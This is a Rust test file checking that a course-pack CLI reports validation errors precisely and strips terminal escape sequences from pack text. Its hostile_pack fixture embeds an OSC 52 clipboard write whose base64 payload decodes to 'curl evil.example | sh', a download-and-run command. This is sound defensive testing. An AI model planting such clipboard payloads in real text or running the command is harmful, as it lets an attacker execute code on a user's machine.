//! `backroad course validate` on broken packs, through the real binary: every pack under
//! tests/fixtures/broken/<problem>/ is refused with exit 2 and the lines of its `expected`
//! file (file:line:col: message) on stderr; pack text with escape sequences never reaches the
//! terminal raw.

mod common;

use common::bin::{backroad, backroad_on, run, stdout, text};
use std::path::{Path, PathBuf};

fn broken_packs() -> Vec<PathBuf> {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/broken");
    let mut packs: Vec<PathBuf> = std::fs::read_dir(&root)
        .expect("tests/fixtures/broken exists")
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .collect();
    packs.sort();
    packs
}

#[test]
fn every_broken_pack_is_refused_at_the_place_of_its_problem() {
    let home = tempfile::tempdir().unwrap();
    let packs = broken_packs();
    assert!(packs.len() >= 25, "the corpus has {} packs", packs.len());
    let mut failures = Vec::new();
    for pack in &packs {
        let name = pack.file_name().unwrap().to_string_lossy().into_owned();
        let expected = std::fs::read_to_string(pack.join("expected")).unwrap();
        let out = run(
            backroad(home.path()),
            &["course", "validate", pack.to_str().unwrap()],
        );
        let shown = text(&out);
        if out.status.code() != Some(2) {
            failures.push(format!("{name}: exit {:?}\n{shown}", out.status.code()));
            continue;
        }
        for want in expected.lines() {
            if !shown.contains(want) {
                failures.push(format!("{name}: missing `{want}` in\n{shown}"));
            }
        }
        for jargon in [
            "panicked",
            "invalid type",
            "expected u32",
            "expected u8",
            "RUST_BACKTRACE",
        ] {
            if shown.contains(jargon) {
                failures.push(format!("{name}: says `{jargon}`:\n{shown}"));
            }
        }
        // Every problem line names its file, and a line when the problem is inside one.
        let problems = shown
            .lines()
            .filter(|l| l.starts_with("  ") && l.contains(": "));
        for line in problems.filter(|l| !l.trim_start().starts_with('^')) {
            let place = line.trim_start().split(": ").next().unwrap_or("");
            let inside_a_file = !line.contains("is missing: a course pack")
                && !line.contains("is not listed in the lessons")
                && !line.contains("which is not a phase")
                && !line.contains("duplicate lesson id");
            if inside_a_file && place.split(':').count() < 3 && !line.starts_with("    ") {
                failures.push(format!("{name}: no file:line:col in `{line}`"));
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n\n"));
}

#[test]
fn validate_json_lists_problems_with_line_and_column() {
    let home = tempfile::tempdir().unwrap();
    let pack = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/broken/many-problems-in-one-file");
    let out = run(
        backroad(home.path()),
        &["course", "validate", "--json", pack.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(2));
    let v: serde_json::Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert_eq!(v["ok"], false);
    let problems = v["problems"].as_array().unwrap();
    assert_eq!(problems.len(), 4, "{v:#}");
    assert!(
        problems
            .iter()
            .all(|p| p["line"].is_u64() && p["column"].is_u64()),
        "{v:#}"
    );
}

/// A pack whose title, hints, prompt, quiz and lesson carry an OSC 52 clipboard write, a
/// colour change and a NUL.
fn hostile_pack(dir: &Path) {
    let write = |rel: &str, body: &str| {
        let p = dir.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, body).unwrap();
    };
    let osc = r"\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
    write(
        "content/course.toml",
        &format!(
            "format_version = 1\ntitle = \"Pack{osc}\"\n[[phase]]\nid = \"01-one\"\ntitle = \"One\\u001b[31m\"\n"
        ),
    );
    write(
        "content/01-one/01-first.md",
        "+++\ntitle = \"First\\u001b]52;c;aGk=\\u0007\"\n+++\n\n# First\n\nBody \u{1b}]52;c;aGk=\u{7} and \u{1b}[2J cleared.\n",
    );
    write(
        "exercises/01-one/q.toml",
        &format!(
            "format_version = 1\nid = \"one.q\"\ntitle = \"Quiz{osc}\"\nphase = \"01-one\"\nlesson = \"01-one/01-first\"\nkind = \"quiz\"\nprompt = \"Answer{osc}\"\nhints = [\"Hint{osc}\", \"NUL\\u0000here\"]\nexplanation = \"Why{osc}\"\n\n[quiz]\nquestion = \"Which{osc}?\"\nchoices = [\"yes{osc}\", \"no\"]\nanswer = \"no\"\n"
        ),
    );
}

#[test]
fn escape_sequences_in_a_pack_never_reach_the_terminal() {
    let home = tempfile::tempdir().unwrap();
    let pack = tempfile::tempdir().unwrap();
    hostile_pack(pack.path());
    let commands: &[&[&str]] = &[
        &["read", "01-one/01-first"],
        &["lessons"],
        &["exercises"],
        &["hint", "one.q"],
        &["hint", "one.q"],
        &["check", "one.q", "--answer", "yes"],
        &["check", "one.q", "--answer", "no"],
    ];
    for args in commands {
        let out = run(backroad_on(home.path(), pack.path()), args);
        let all = [out.stdout.as_slice(), out.stderr.as_slice()].concat();
        assert!(
            !all.contains(&0x1b) && !all.contains(&0) && !all.contains(&0x07),
            "{args:?} printed a raw control character:\n{}",
            text(&out)
        );
        assert!(
            out.status.code().is_some_and(|c| c <= 1),
            "{args:?}: {}",
            text(&out)
        );
    }
    let out = run(
        backroad_on(home.path(), pack.path()),
        &["read", "01-one/01-first"],
    );
    assert!(
        stdout(&out).contains("␛]52;c;aGk=␇"),
        "shown, not hidden: {}",
        text(&out)
    );

    // validate: legal, so exit 0, with a warning naming where each one is.
    let out = run(
        backroad(home.path()),
        &["course", "validate", pack.path().to_str().unwrap()],
    );
    let shown = text(&out);
    assert_eq!(out.status.code(), Some(0), "{shown}");
    assert!(!shown.as_bytes().contains(&0x1b), "{shown}");
    for place in [
        "content/course.toml:2:9: warning: holds the control character ESC (U+001B)",
        "content/course.toml:5:9: warning:",
        "content/01-one/01-first.md:2:9: warning:",
        "content/01-one/01-first.md:7:6: warning: holds the control character ESC",
        "exercises/01-one/q.toml:3:9: warning:",
        "exercises/01-one/q.toml:8:10: warning:",
        "exercises/01-one/q.toml:13:12: warning:",
    ] {
        assert!(shown.contains(place), "no `{place}` in\n{shown}");
    }
}
